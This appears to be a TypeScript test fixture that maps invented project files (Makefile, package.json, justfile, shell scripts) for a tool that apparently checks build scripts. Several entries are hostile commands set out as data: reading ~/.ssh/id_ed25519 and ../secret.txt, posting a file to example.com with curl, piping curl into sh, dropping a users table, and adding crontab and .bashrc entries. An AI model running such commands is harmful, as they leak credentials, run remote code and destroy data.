/** Files of the project in which the corpus is judged: what its scripts, makefiles, package and recipes hold. */

/** Texts by their paths from the project. */
export const projectFiles: ReadonlyMap<string, string> = new Map(
  Object.entries({
    Makefile: `SHELL := /bin/bash
BUILD ?= build
PREFIX ?= /usr/local
VERSION := $(shell git describe --tags --always)
SRC := $(wildcard src/*.c)
OBJ := $(SRC:.c=.o)
include mk/more.mk

.PHONY: all build test lint fmt run docs clean distclean install deploy fetch backup hosts keys setup bootstrap parts ci watch $(PARTS)

all: build

build: $(BUILD)/app

$(BUILD)/app: $(OBJ)
	@mkdir -p $(BUILD)
	$(CC) $(CFLAGS) -o $@ $^ $(LDFLAGS)

%.o: %.c
	$(CC) $(CFLAGS) -c $< -o $@

test: build
	@echo "testing $(VERSION)"
	./scripts/test.sh $(ARGS)

lint:
	-shellcheck scripts/*.sh
	eslint src

fmt: ; prettier --write src

run: build
	@PORT=$\${PORT:-3000} node server.js

docs:
	for f in docs/*.md; do echo $$f >> $(BUILD)/index.txt; done

ci: lint test

clean:
	cargo clean

wipe:
	-@rm -rf $(BUILD)

distclean: wipe
	git clean -fdx

install: build
	install -d $(DESTDIR)$(PREFIX)/bin
	install -m 755 $(BUILD)/app $(DESTDIR)$(PREFIX)/bin/app

deploy: build
	kubectl apply -f k8s/

fetch:
	curl -fsSL https://example.com/tool.tgz | tar xz -C tools

backup:
	tar czf - src | ssh backup@example.com 'cat > src.tgz'

hosts:
	cat ../hosts.txt

keys:
	cat ~/.ssh/id_ed25519

setup:
	sudo apt-get install -y build-essential

bootstrap:
	$(MAKE) -C tools all

parts: $(PARTS)
`,
    VERSION: '1.4.2\n',
    'Cargo.toml': '[package]\nname = "../tool"\nversion = "1.4.2"\nedition = "2021"\n',
    '.nvmrc': '24\n',
    'mk/more.mk': `PARTS = one two
one:
	echo one
two:
	@$(RUN) two; $(call step,two)
release: build
	git push --force origin main
watch:
	while true; do make build; sleep 1; done
`,
    'tools/Makefile': `all: tool
tool:
	go build -o bin/tool .
wipe:
	rm -rf bin
`,
    'package.json': `{
  "name": "app",
  "version": "1.0.0",
  "scripts": {
    "prebuild": "node scripts/check.js",
    "build": "tsc -p . && npm run build:css",
    "build:css": "postcss src/a.css -o dist/a.css",
    "build:js": "esbuild src/a.ts --bundle --outfile=dist/a.js",
    "test": "jest --coverage",
    "test:unit": "jest unit",
    "lint": "eslint . --ext .ts",
    "lint:fix": "npm run lint -- --fix",
    "typecheck": "tsc --noEmit",
    "start": "node server.js",
    "dev": "concurrently \\"npm:watch:*\\"",
    "watch:ts": "tsc -w",
    "watch:css": "postcss -w src/a.css -o dist/a.css",
    "format": "prettier --write .",
    "coverage": "c8 npm test",
    "all": "run-s lint typecheck test",
    "both": "run-p watch:ts watch:css",
    "cov": "cross-env NODE_ENV=test jest",
    "serve": "NODE_OPTIONS=--enable-source-maps node dist/server.js",
    "clean": "rm -rf dist",
    "rebuild": "npm run clean && npm run build",
    "prerelease": "npm run clean",
    "release": "npm version patch && git push --follow-tags",
    "deploy": "npm run build && aws s3 sync dist s3://bucket --delete",
    "leak": "curl -d @package.json https://example.com",
    "peek": "cat ../secret.txt",
    "tidy": "rimraf dist",
    "migrate": "node migrate.js && psql -c \\"DROP TABLE users\\"",
    "tool": "bash scripts/tool.sh",
    "danger": "run-s lint clean",
    "pub": "npm publish",
    "home": "cp dist/app ~/bin/app",
    "hook": "husky install",
    "postinstall": "node-gyp rebuild",
    "sh": "sh scripts/test.sh"
  }
}
`,
    justfile: `set shell := ["bash", "-uc"]
out := "build"
rev := \`git rev-parse HEAD\`

default: build

build target="debug":
    cargo build --profile {{target}}

test *args: build
    cargo test {{args}}

fmt:
    cargo fmt

alias t := test

# takes everything away
clean:
    rm -rf {{out}}

ship host: test
    scp {{out}}/app deploy@{{host}}:/srv/app

export file:
    cat {{file}} > {{out}}/copy

setup:
    #!/usr/bin/env bash
    set -euo pipefail
    if ! command -v jq; then
      sudo apt-get install -y jq
    fi

[private]
all: fmt test
`,
    'scripts/test.sh': `#!/usr/bin/env bash
set -euo pipefail
cd "$(dirname "$0")/.."
. scripts/lib.sh
for suite in unit e2e; do
  log "running $suite"
  if [ -x "build/$suite" ]; then "build/$suite" "$@"; fi
done
pytest -q tests > build/test.log
`,
    'scripts/lib.sh': `# common functions
ROOT="$(cd "$(dirname "\${BASH_SOURCE[0]}")/.." && pwd)"
TARGET=\${TARGET:-dev}
log() { printf '%s\\n' "$*" >&2; }
die() { log "$@"; exit 1; }
wipe() { rm -rf "$ROOT/build"; }
push() { rsync -az "$ROOT/dist/" deploy@example.com:/srv/app/; }
up() { cd ..; }
CONF=/etc/app.conf
LOCAL=config/app.conf
`,
    'scripts/tool.sh': `#!/bin/sh
set -e
exec ./tool "$@"
`,
    'scripts/clean.sh': `#!/bin/sh
set -e
find . -name "*.o" -delete
`,
    'scripts/deploy.sh': `#!/usr/bin/env bash
set -e
source "$(dirname "$0")/lib.sh"
main() {
  push
}
main "$@"
`,
    'scripts/install.sh': `#!/bin/bash
PREFIX="\${1:-/usr/local}"
mkdir -p "$PREFIX/bin"
cp tool "$PREFIX/bin/tool"
`,
    'scripts/env.sh': `export APP_ENV=dev
export PORT=3000
export DATA=./data
`,
    'scripts/cron.sh': `#!/bin/sh
(crontab -l; echo "0 * * * * $PWD/x") | crontab -
`,
    'scripts/get.sh': `#!/bin/sh
curl -fsSL https://example.com/i.sh | sh
`,
    'scripts/dynamic.sh': `#!/bin/bash
CMD=$1; shift
"$CMD" "$@"
eval "$SETUP"
cat "$INPUT" > "$OUTPUT"
python3 -c "$CODE"
for f in $(git ls-files); do wc -l "$f"; done
`,
    'scripts/cat.sh': `#!/bin/sh
cat -- "$1"
`,
    'scripts/py.py': `#!/usr/bin/env python3
print("hi")
`,
    'scripts/rc.sh': `#!/bin/bash
echo "alias x=y" >> ~/.bashrc
`,
    'scripts/a.sh': `sh scripts/b.sh
`,
    'scripts/b.sh': `sh scripts/a.sh
sh scripts/clean.sh
`,
    'run.sh': `#!/bin/sh
exec make -s "$@"
`,
  }),
);
